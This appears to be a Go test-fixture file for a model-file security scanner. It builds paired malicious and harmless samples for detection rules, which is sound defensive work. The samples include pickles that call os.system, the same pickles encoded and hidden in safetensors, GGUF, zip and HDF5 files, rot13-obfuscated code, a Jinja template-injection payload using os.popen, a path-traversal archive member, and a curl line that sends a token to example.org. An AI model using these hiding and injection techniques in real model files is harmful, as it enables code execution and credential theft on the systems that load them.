package plantedtest

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/modelaudit/modelaudit/internal/format/pickle/pickletest"
	"github.com/modelaudit/modelaudit/internal/format/zip/ziptest"
)

// evil is a pickle that starts a program, tame one of the same shape that does
// nothing.
func evil() []byte { return pickletest.New(4).Call("posix", "system", "echo poc").Stop() }

// tame has the shape of evil and calls what every model may call.
func tame() []byte { return pickletest.New(4).Call("builtins", "str", "echo poc").Stop() }

// deflated is one zlib stream.
func deflated(p []byte) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write(p)
	w.Close()
	return b.Bytes()
}

// fits reports whether a carrier takes a text as it stands, and not in the escapes
// of its own language, which nobody undoes who looks through a file as text.
func fits(c carrier, e encoding) bool {
	switch c.name {
	case "a pickle of protocol 0":
		return e.name != "escapes of Unicode" // its own
	case "code of TorchScript":
		return e.name != "Ascii85" // has quotation marks
	case "an extension of PMML":
		return e.name != "base85" && e.name != "Z85" && e.name != "Ascii85" // have signs of markup
	case "an attribute of HDF5", "a dataset of HDF5":
		return len(c.build(e.encode(evil()))) > 0 // has room for as much
	}
	return true
}

// Payloads returns the rows with encoded payloads: each place with each encoding.
func Payloads() []Row {
	var out []Row
	for _, c := range append(carriers(), hideouts()...) {
		for _, e := range encodings() {
			if !fits(c, e) {
				continue
			}
			twin := e.encode(tame())
			if c.name == "metadata of safetensors alone" { // where no file at all may stand in an encoding
				twin = noise(len(twin), base62)
			}
			out = append(out, Row{Name: "a pickle, " + e.name + ", in " + c.name, File: c.file, Rules: found, Data: c.build(e.encode(evil())), Twin: c.build(twin)})
		}
	}
	for _, c := range hideouts() { // words around it would be turned, too
		out = append(out, turned(c))
	}
	return append(out, direct()...)
}

// turned is a row of a program with its letters turned by 13 places.
func turned(c carrier) Row {
	rot13 := func(s string) []byte {
		return c.build(strings.Map(func(r rune) rune {
			switch lower := r | 0x20; {
			case lower >= 'a' && lower <= 'm':
				return r + 13
			case lower >= 'n' && lower <= 'z':
				return r - 13
			}
			return r
		}, s))
	}
	return Row{Name: "a program, rot13, in " + c.name, File: c.file, Rules: found, Data: rot13("; import os; os.system(1);"), Twin: rot13("; import os; os.getcwd();")}
}

// hideouts are places in which nothing stands around the text.
func hideouts() []carrier {
	return []carrier{
		{"a pickle alone", "m.pkl", func(s string) []byte { return model("note", s).Stop() }},
		{"metadata of safetensors alone", "m.safetensors", tensors},
		{"a configuration in an archive", "m.zip", func(s string) []byte { return ziptest.Files("config.json", `{"blob": `+quoted(s)+`}`) }},
		{"a text of GGUF alone", "m.gguf", func(s string) []byte { return ggml("general.description", 8, counted(s)) }},
	}
}

// found are rules that tell of a payload.
var found = []string{"pickle-carries-payload", "pickle-executes-code", "encoded-payload", "safetensors-encoded-content", "encoded-script"}

// direct are payloads that loaders decode themselves.
func direct() []Row {
	lambda := func(code []byte, class string) []byte {
		config := fmt.Sprintf(`{"module":"keras","class_name":"Functional","config":{"name":"m","layers":[{"module":"keras.layers","class_name":%q,`+
			`"config":{"name":"l","note":%q,"function":[%q,null,null]}}]}}`, class, "a layer", base64.StdEncoding.EncodeToString(code))
		return ziptest.Files("config.json", config, "metadata.json", "{}")
	}
	code := append([]byte{0xe3}, make([]byte, 40)...)
	loads := func(inner []byte) []byte {
		return pickletest.New(4).Named("_pickle", "loads").Data(inner).Tuple(1).Reduce().Stop()
	}
	return []Row{
		{Name: "a function of Keras", File: "m.keras", Rules: []string{"keras-lambda-code"}, Data: lambda(code, "Lambda"), Twin: plainKeras()},
		{Name: "a pickle that loads another", File: "m.pkl", Rules: []string{"pickle-executes-code"}, Data: loads(evil()), Twin: model("note", "_pickle loads").Stop()},
	}
}

// plainKeras is a model of Keras without code.
func plainKeras() []byte {
	return ziptest.Files("config.json", `{"module":"keras","class_name":"Functional","config":{"name":"m","layers":[]}}`, "metadata.json", "{}")
}

// Shown returns files of which what is said repeats a text that has a credential
// in it: arguments of calls, code, names of members.
func Shown() []Row {
	token := summed("ghp_")
	hidden := []string{token[4:]}
	command := "curl -H 'Authorization: token " + token + "' https://example.org"
	long := strings.Repeat("echo poc; ", 12) + command + strings.Repeat("; echo poc", 20)
	call := func(s string) []byte { return pickletest.New(4).Call("posix", "system", s).Stop() }
	executes := []string{"pickle-executes-code"}
	return []Row{
		{Name: "argument", File: "m.pkl", Rules: executes, Hidden: hidden, Data: call(command)},
		{Name: "long argument", File: "m.pkl", Rules: executes, Hidden: hidden, Data: call(long)},
		{Name: "argument of a pickle in base64", File: "m.pkl", Rules: found, Hidden: hidden,
			Data: model("blob", base64.StdEncoding.EncodeToString(call(command))).Stop()},
		{Name: "name of a member", File: "m.zip", Rules: executes, Hidden: hidden, Data: ziptest.Files("runs/"+token+"/m.pkl", string(call(command)))},
		{Name: "template", File: "chat_template.jinja", Hidden: hidden,
			Data: []byte("{{ cycler.__init__.__globals__.os.popen(\"" + command + "\").read() }}")},
		{Name: "source", File: "m.zip", Hidden: hidden,
			Data: ziptest.Files("m.pkl", string(tame()), "handler.py", "import os\nos.system(\""+command+"\")\n")},
		{Name: "name of a member alone", File: "m.zip", Hidden: hidden, Data: ziptest.Files("runs/"+token+"/../../../m.pkl", string(evil()))},
	}
}
